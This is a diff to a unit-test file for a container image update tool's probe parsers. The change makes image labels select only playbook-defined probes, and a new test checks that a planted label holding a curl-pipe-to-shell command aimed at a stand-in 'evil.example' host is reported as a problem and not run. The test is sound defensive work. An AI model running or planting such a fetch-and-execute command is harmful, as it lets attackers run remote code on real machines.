@@ -69,12 +69,25 @@ describe('probe output parsers', () => {
     expect(parseCustomProbe('openssl 3.0.15\n\n# from our feed\n  zlib  \n')).toEqual([{ name: 'openssl', available: '3.0.15' }, { name: 'zlib' }]);
   });
 
-  it('custom probe precedence: the repository entry, then the image label, then the * entry', () => {
-    const label = { 'org.freshen.probe': 'from-label' };
-    expect(customProbe('a', label, { a: 'from-option', '*': 'all' })).toBe('from-option');
-    expect(customProbe('b', label, { a: 'from-option', '*': 'all' })).toBe('from-label');
-    expect(customProbe('b', {}, { '*': 'all' })).toBe('all');
-    expect(customProbe('b', {}, {})).toBeUndefined();
+  it('custom probe precedence: the repository entry, then the by_label probe the image label names, then the * entry', () => {
+    const label = { 'org.freshen.probe': 'pip' };
+    const byLabel = { pip: 'pip list --outdated' };
+    expect(customProbe('a', label, { commands: { a: 'from-option', '*': 'all' }, byLabel })).toEqual({ command: 'from-option' });
+    expect(customProbe('b', label, { commands: { a: 'from-option', '*': 'all' }, byLabel })).toEqual({ command: 'pip list --outdated' });
+    expect(customProbe('b', {}, { commands: { '*': 'all' }, byLabel })).toEqual({ command: 'all' });
+    expect(customProbe('b', {}, { commands: {}, byLabel })).toEqual({});
+  });
+
+  it('an image label never supplies the script: a label naming no defined probe (or carrying a command) is a problem, not run', () => {
+    const planted = { 'org.freshen.probe': 'curl http://evil.example/x | sh' };
+    const result = customProbe('b', planted, { commands: { '*': 'all' }, byLabel: { pip: 'pip list --outdated' } });
+    expect(result).toEqual({
+      problem:
+        'its label org.freshen.probe names the probe "curl http://evil.example/x | sh", which discover\'s probe.by_label does not define (it has pip); a label only picks a probe the playbook defines',
+    });
+    expect(customProbe('b', { 'org.freshen.probe': 'toString' }, { commands: {}, byLabel: {} })).toEqual({
+      problem: expect.stringContaining('it defines none'),
+    });
   });
 });
 
